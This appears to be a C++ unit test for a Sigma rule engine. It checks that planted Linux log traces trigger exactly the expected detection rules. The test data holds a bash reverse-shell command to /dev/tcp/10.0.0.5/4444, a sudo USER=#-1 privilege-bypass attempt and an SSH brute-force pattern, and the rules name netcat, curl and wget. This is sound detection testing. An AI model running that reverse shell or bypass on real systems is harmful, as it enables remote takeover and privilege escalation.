// Planted traces: an auth.log with a sudo -u#-1 attempt and an ssh brute force, an audit.log with
// a hex-encoded reverse-shell execve. Each must hit exactly the expected rules, through the
// normalisers and the RuleSet's log-source index, and nothing else may match.
#include <gtest/gtest.h>

#include <map>
#include <sstream>

#include "sigma/normalize.hpp"
#include "sigma/rule_set.hpp"
#include "sigma_support.hpp"
#include "trace_builders.hpp"

namespace {

using namespace sigma;
using sigma::test::exec_records;
using sigma::test::rule_text;

const std::string kRules =
    rule_text("    sel:\n        USER: ['#-*', '#*4294967295']\n    condition: sel\n",
              "sudo_uid_bypass", "    product: linux\n    service: sudo\n") +
    "---\n" +
    rule_text("    keywords:\n        - 'Failed password for'\n    condition: keywords\n",
              "ssh_failed_password", "    product: linux\n    service: sshd\n") +
    "---\n" +
    rule_text(
        "    sel:\n        type: EXECVE\n    kw:\n        - '/dev/tcp/'\n"
        "    condition: sel and kw\n",
        "auditd_devtcp", "    product: linux\n    service: auditd\n") +
    "---\n" +
    rule_text(
        "    sel:\n        Image|endswith: '/bash'\n        CommandLine|contains|all:\n"
        "            - ' -i'\n            - '/dev/tcp/'\n    condition: sel\n",
        "proc_reverse_shell", "    product: linux\n    category: process_creation\n") +
    "---\n" +
    rule_text("    keywords: ['curl', 'wget']\n    condition: keywords\n", "decoy_cron_download",
              "    product: linux\n    service: cron\n") +
    "---\n" +
    rule_text("    sel:\n        Image|endswith: ['/nc', '/ncat']\n    condition: sel\n",
              "decoy_proc_netcat", "    product: linux\n    category: process_creation\n") +
    "---\n" +
    rule_text("    keywords: ['Accepted password']\n    condition: keywords\n",
              "decoy_auth_password_login", "    product: linux\n    service: auth\n");

std::string auth_log() {
  std::ostringstream log;
  log << "Mar  3 10:15:01 web1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=#-1 ; "
         "COMMAND=/bin/bash\n";
  log << "Mar  3 10:15:09 web1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; "
         "COMMAND=/usr/bin/apt update\n";
  for (int i = 0; i < 6; ++i)
    log << "Mar  3 10:16:0" << i << " web1 sshd[22" << i << "]: Failed password for root from "
        << "203.0.113.9 port 5512" << i << " ssh2\n";
  log << "Mar  3 10:17:00 web1 sshd[2300]: Accepted publickey for alice from 192.0.2.1 port "
         "50000 ssh2: ED25519 SHA256:abc\n";
  log << "Mar  3 10:17:01 web1 CRON[3000]: (root) CMD (run-parts /etc/cron.hourly)\n";
  return log.str();
}

std::vector<std::string> audit_log() {
  std::vector<std::string> lines;
  for (const auto& l :
       exec_records("1700000000.100:501", "1300", "1200", "/usr/bin/bash",
                    {"bash", "-c", "bash -i >& /dev/tcp/10.0.0.5/4444 0>&1"}, "/tmp"))
    lines.push_back(l);
  for (const auto& l : exec_records("1700000000.200:502", "1301", "1200", "/usr/bin/ls",
                                    {"ls", "-la", "/etc"}, "/root"))
    lines.push_back(l);
  return lines;
}

// "rule id <- where" for every match.
std::multimap<std::string, std::string> run(const RuleSet& rules) {
  std::multimap<std::string, std::string> hits;
  std::istringstream auth(auth_log());
  int n = 0;
  for (std::string line; std::getline(auth, line);) {
    ++n;
    if (auto e = syslog_event(line))
      for (const Rule* r : rules.match(*e)) hits.emplace(r->id, "auth.log:" + std::to_string(n));
  }
  AuditdGrouper grouper;
  std::vector<Event> events;
  for (const auto& line : audit_log()) grouper.add_line(line, events);
  grouper.flush(events);
  ProcessTracker tracker;
  for (const Event& e : events) {
    const std::string where = "audit:" + *e.first("pid");
    for (const Rule* r : rules.match(e)) hits.emplace(r->id, where);
    if (auto p = tracker.process_creation(e))
      for (const Rule* r : rules.match(*p)) hits.emplace(r->id, "process_creation:" + where);
  }
  return hits;
}

TEST(SigmaPlantedTraces, ExpectedRulesAndNoOthers) {
  LoadResult loaded = load_rules_from_text(kRules, "planted.yml");
  ASSERT_TRUE(loaded.issues.empty()) << loaded.issues[0].to_string();
  ASSERT_EQ(loaded.rules.size(), 7u);
  const RuleSet rules(std::move(loaded.rules));
  const std::multimap<std::string, std::string> expected = {
      {"sudo_uid_bypass", "auth.log:1"},
      {"ssh_failed_password", "auth.log:3"},
      {"ssh_failed_password", "auth.log:4"},
      {"ssh_failed_password", "auth.log:5"},
      {"ssh_failed_password", "auth.log:6"},
      {"ssh_failed_password", "auth.log:7"},
      {"ssh_failed_password", "auth.log:8"},
      {"auditd_devtcp", "audit:1300"},
      {"proc_reverse_shell", "process_creation:audit:1300"},
  };
  EXPECT_EQ(run(rules), expected);
}

TEST(SigmaPlantedTraces, LogSourceIndexOffersOnlyApplicableRules) {
  LoadResult loaded = load_rules_from_text(kRules, "planted.yml");
  const RuleSet rules(std::move(loaded.rules));
  auto ids = [&](const LogSource& s, const std::string& family) {
    std::vector<std::string> out;
    for (const Rule* r : rules.candidates(s, family)) out.push_back(r->id);
    return out;
  };
  EXPECT_EQ(ids({"linux", "", "sshd"}, "auth"),
            (std::vector<std::string>{"ssh_failed_password", "decoy_auth_password_login"}));
  EXPECT_EQ(ids({"linux", "process_creation", ""}, ""),
            (std::vector<std::string>{"proc_reverse_shell", "decoy_proc_netcat"}));
  EXPECT_TRUE(ids({"windows", "", "sshd"}, "").empty());
}

}  // namespace
